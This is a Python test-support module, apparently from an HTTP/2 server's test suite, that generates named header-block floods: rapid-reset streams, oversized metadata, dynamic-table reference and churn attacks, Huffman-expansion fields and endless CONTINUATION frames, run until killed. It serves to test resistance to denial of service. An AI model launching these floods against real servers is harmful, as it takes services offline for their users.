"""Floods of header blocks (RFC 7541).

`python -m tests.support.attacks.header_floods NAME CONNECTIONS` is one of them.
They run until they are killed.
"""

from __future__ import annotations

import sys
from collections.abc import Callable

from tests.support import http2
from tests.support.attacks.sender import Blocks, flood
from tests.support.http2 import frame

_REQUEST = http2.block(http2.request_fields(http2.path_of("GetPod")))
_LARGE_FIELD = http2.literal(b"x-more", b"y" * 3900, added=True)
"""It takes nearly all of the 4096 bytes that the peer's table has, so it is the only entry."""


def blocks_of(*blocks: bytes) -> Callable[[], Blocks]:
    """Return a flood of requests that are reset at once; all blocks but the first equal the last.

    To each a field is added that no other has, so that none was seen before.
    """

    def flooding() -> Blocks:
        yield http2.opening()
        left = list(blocks)
        for stream in range(1, http2.MAX_STREAM, 2):
            block = left.pop(0) if len(left) > 1 else left[0]
            unique = http2.literal(b"x-number", str(stream).encode())
            yield http2.header_frames(stream, block + unique) + http2.rst_stream(stream)

    return flooding


def metadata(size: int, *, of_field: int = 1000) -> bytes:
    """Return a request with `size` bytes of metadata."""
    return _REQUEST + http2.literal(b"x-more", b"y" * of_field) * (size // of_field)


def references(count: int) -> Callable[[], Blocks]:
    """Return a flood of requests that name one large field `count` times, a byte each time."""
    again = _REQUEST + http2.indexed(http2.FIRST_DYNAMIC) * count
    return blocks_of(_REQUEST + _LARGE_FIELD, again)


def _huffman(size: int) -> bytes:
    """A field whose value is `size` bytes of Huffman's code: a zero byte holds 1.6 zeros."""
    return b"\0" + http2.text(b"x-more") + http2.integer(size, 7, 0x80) + bytes(size)


def _endless(continuation: bytes) -> Callable[[], Blocks]:
    def blocks() -> Blocks:
        yield http2.opening() + frame(http2.HEADERS, 0, 1, _REQUEST)
        while True:
            yield continuation

    return blocks


_NEW_FIELDS = b"".join(http2.literal(b"x-%d" % n, b"y", added=True) for n in range(150))
_RESIZED = http2.table_size(0) + http2.table_size(4096)

HEADER_FLOODS: dict[str, Callable[[], Blocks]] = {
    "metadata-8k": blocks_of(metadata(7_000)),
    "metadata-huge": blocks_of(metadata(60_000)),
    "many-fields": blocks_of(metadata(15_000, of_field=1)),
    "header-references": references(30),
    "header-references-many": references(15_000),
    "header-table-churn": blocks_of(_REQUEST + _NEW_FIELDS),
    "header-table-sizes": blocks_of(_RESIZED + _REQUEST + _LARGE_FIELD),
    "header-huffman": blocks_of(_REQUEST + _huffman(4_500)),
    "header-huffman-huge": blocks_of(_REQUEST + _huffman(78_000)),
    "continuation": _endless(frame(http2.CONTINUATION, 0, 1, http2.literal(b"x", b"y" * 1000))),
    "empty-continuation": _endless(frame(http2.CONTINUATION, 0, 1) * 1800),
}

if __name__ == "__main__":
    flood(HEADER_FLOODS[sys.argv[1]], int(sys.argv[2]))
